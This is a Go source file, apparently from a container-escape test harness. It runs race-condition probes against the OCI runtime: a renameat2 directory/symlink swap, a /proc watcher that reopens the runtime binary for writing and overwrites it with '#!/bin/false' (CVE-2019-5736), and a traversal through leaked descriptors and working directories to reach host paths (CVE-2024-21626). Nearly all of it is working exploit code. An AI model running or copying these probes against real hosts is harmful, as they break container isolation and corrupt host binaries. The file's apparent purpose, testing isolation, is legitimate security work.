package main

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"

	"golang.org/x/sys/unix"
)

// races continue in the background until the program exits.
var races = map[string]attempt{
	"swap":           words(2, swap),
	"watch-runtime":  words(1, watchRuntime),
	"runtime-access": words(0, runtimeAccess),
}

// swap exchanges a directory and a symbolic link at a path, atomically and repeatedly. It keeps adding files to the directory, so that
// its removal takes time.
func swap(w []string) (string, error) {
	other := w[0] + ".other"
	if err := os.MkdirAll(w[0], 0o777); err != nil { // writable by others on purpose
		return "", err
	}
	if err := os.Symlink(w[1], other); err != nil && !os.IsExist(err) {
		return "", err
	}
	go func() {
		for n := 0; ; n++ {
			_ = unix.Renameat2(unix.AT_FDCWD, w[0], unix.AT_FDCWD, other, unix.RENAME_EXCHANGE)
			if n%64 == 0 {
				_ = os.WriteFile(filepath.Join(w[0], "content"), nil, 0o600)
			}
		}
	}()
	return "", nil
}

// seen is what watchRuntime has found.
var seen struct {
	sync.Mutex
	found map[string]bool
}

// watchRuntime waits for processes that enter the container, such as those of the OCI runtime. It tries to open their binaries for
// writing (CVE-2019-5736), and a path of the host through their working directories and descriptors (CVE-2024-21626).
func watchRuntime(w []string) (string, error) {
	seen.found = map[string]bool{}
	go func() {
		for {
			dirs, _ := filepath.Glob("/proc/[0-9]*")
			for _, dir := range dirs {
				if dir != "/proc/1" && dir != fmt.Sprint("/proc/", os.Getpid()) {
					found := access(dir, w[0])
					seen.Lock()
					for _, what := range found {
						seen.found[what] = true
					}
					seen.Unlock()
				}
			}
		}
	}()
	return "", nil
}

// access tries to access the host through a process.
func access(dir, mark string) (found []string) {
	if program, err := os.Readlink(dir + "/exe"); err == nil {
		found = append(found, "saw "+strings.TrimSuffix(program, " (deleted)"))
	}
	// A read descriptor keeps the binary when the process executes another one. The first binary is writable then.
	fd, err := unix.Open(dir+"/exe", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err == nil {
		path := fmt.Sprintf("/proc/self/fd/%d", fd)
		if program, _ := os.Readlink(path); !own(program) {
			for range 100 {
				if out, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0); err == nil {
					found = append(found, "opened "+program+" for writing"+overwrite(out))
					break
				}
			}
		}
		_ = unix.Close(fd)
	}
	for _, link := range append(links(dir), dir+"/cwd", dir+"/root") {
		if outside(link, mark) {
			found = append(found, "reached the host through "+filepath.Base(link))
		}
	}
	return found
}

// own reports whether a program is the container's.
func own(program string) bool { return strings.HasPrefix(program, "/bin/") }

// overwrite writes to a binary that is not the container's.
func overwrite(fd int) string {
	defer unix.Close(fd)
	if _, err := unix.Write(fd, []byte("#!/bin/false\n")); err != nil {
		return " but could not write"
	}
	return " and wrote"
}

func links(dir string) []string {
	all, _ := filepath.Glob(dir + "/fd/[0-9]*")
	return all
}

// outside reports whether a link leads to a directory above which a path of the host exists.
func outside(link, mark string) bool {
	fd, err := unix.Open(link, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return false
	}
	defer unix.Close(fd)
	for up := range 20 {
		var stat unix.Stat_t
		if unix.Fstatat(fd, strings.Repeat("../", up)+strings.TrimPrefix(mark, "/"), &stat, unix.AT_SYMLINK_NOFOLLOW) == nil {
			return true
		}
	}
	return false
}

// runtimeAccess returns what watchRuntime has found.
func runtimeAccess([]string) (string, error) {
	seen.Lock()
	defer seen.Unlock()
	var all []string
	for what := range seen.found {
		all = append(all, what)
	}
	slices.Sort(all)
	return strings.Join(all, ", "), nil
}
